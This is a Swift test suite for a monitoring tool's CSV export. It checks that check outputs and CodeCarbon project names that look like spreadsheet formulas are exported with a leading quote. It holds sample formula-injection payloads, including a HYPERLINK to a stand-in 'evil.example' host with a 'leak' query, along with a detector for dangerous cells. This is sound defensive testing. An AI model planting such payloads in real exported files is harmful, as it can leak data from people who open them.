import Foundation
import Testing
@testable import TTAMonitorCore

/// Issue 14, item 8: a CSV export never hands a spreadsheet a cell it would run as a formula,
/// whether the text came from a check's output or a CodeCarbon project name.
@Suite(.serialized) struct HostileCSVInjectionTests {
    static let formulas = [
        "=HYPERLINK(\"http://evil.example/?leak\",\"click\")",
        "+SUM(1,2)",
        "-2+3+cmd",
        "@SUM(A1:A2)",
    ]

    /// RFC 4180 records of `text`.
    static func records(_ text: String) -> [[String]] {
        var records: [[String]] = []
        var record: [String] = []
        var field = ""
        var quoted = false
        var characters = Array(text.unicodeScalars)[...]
        while let scalar = characters.popFirst() {
            if quoted {
                if scalar == "\"" {
                    if characters.first == "\"" { field.unicodeScalars.append("\""); characters.removeFirst() } else { quoted = false }
                } else {
                    field.unicodeScalars.append(scalar)
                }
            } else if scalar == "\"" {
                quoted = true
            } else if scalar == "," {
                record.append(field); field = ""
            } else if scalar == "\r" {
                continue
            } else if scalar == "\n" {
                record.append(field); field = ""
                records.append(record); record = []
            } else {
                field.unicodeScalars.append(scalar)
            }
        }
        return records
    }

    /// Cells a spreadsheet would evaluate: starting with = + - @ and not a plain number.
    static func dangerous(_ records: [[String]]) -> [String] {
        records.flatMap { $0 }.filter { cell in
            guard let first = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return false }
            return Double(cell) == nil
        }
    }

    @Test("check messages that look like formulas are exported with a leading quote; plain negative numbers stay numbers")
    func checkMessages() async throws {
        let directory = try TemporaryDirectory()
        var checks = ""
        for (index, formula) in (Self.formulas + ["-1.5"]).enumerated() {
            let printed = try directory.write("out-\(index).txt", formula + "\n")
            checks += "    - {name: c\(index), type: command, command: [/bin/cat, \"\(printed)\"]}\n"
        }
        try directory.write("tta.yaml", "monitoring:\n  storage: {path: monitor.db}\n  checks:\n" + checks)
        let check = try await BinaryRunner.run(["--config", "tta.yaml", "check"], in: directory.path)
        #expect(check.code == 0, "\(check.out)\(check.err)")

        let export = try await BinaryRunner.run(["--config", "tta.yaml", "export", "--format", "csv", "--report", "checks",
                                                 "--output", "checks.csv"], in: directory.path)
        #expect(export.code == 0, "\(export.err)")
        let records = Self.records(try String(contentsOfFile: directory.file("checks.csv"), encoding: .utf8))
        #expect(records.count == 6, "\(records)")
        #expect(Self.dangerous(records).isEmpty, "\(Self.dangerous(records))")
        let cells = Set(records.flatMap { $0 })
        for formula in Self.formulas { #expect(cells.contains("'" + formula), "\(formula) not in \(cells)") }
        #expect(cells.contains("-1.5"), "\(cells)")
    }

    @Test("a CodeCarbon project name that is a formula is exported with a leading quote")
    func carbonProjectName() async throws {
        let directory = try TemporaryDirectory()
        try directory.write("tta.yaml", "monitoring:\n  storage: {path: monitor.db}\n  checks:\n    - {name: disk-root, type: disk, path: /}\n")
        let csv = try directory.write("emissions.csv", """
            timestamp,project_name,run_id,duration,emissions,energy_consumed
            2026-01-02T10:00:00,"=HYPERLINK(""http://evil.example"",""x"")",r1,10,0.001,0.01
            2026-01-02T11:00:00,@SUM(A1),r2,10,0.001,0.01

            """)
        let imported = try await BinaryRunner.run(["--config", "tta.yaml", "carbon", "import", csv], in: directory.path)
        #expect(imported.code == 0, "\(imported.err)")
        let export = try await BinaryRunner.run(["--config", "tta.yaml", "export", "--format", "csv", "--report", "carbon",
                                                 "--since", "2026-01-01", "--until", "2026-01-03"], in: directory.path)
        #expect(export.code == 0, "\(export.err)")
        let records = Self.records(export.out)
        #expect(records.count == 3, "\(export.out)")
        #expect(Self.dangerous(records).isEmpty, "\(Self.dangerous(records))")
        let cells = Set(records.flatMap { $0 })
        #expect(cells.contains("'=HYPERLINK(\"http://evil.example\",\"x\")"), "\(cells)")
        #expect(cells.contains("'@SUM(A1)"), "\(cells)")
    }
}
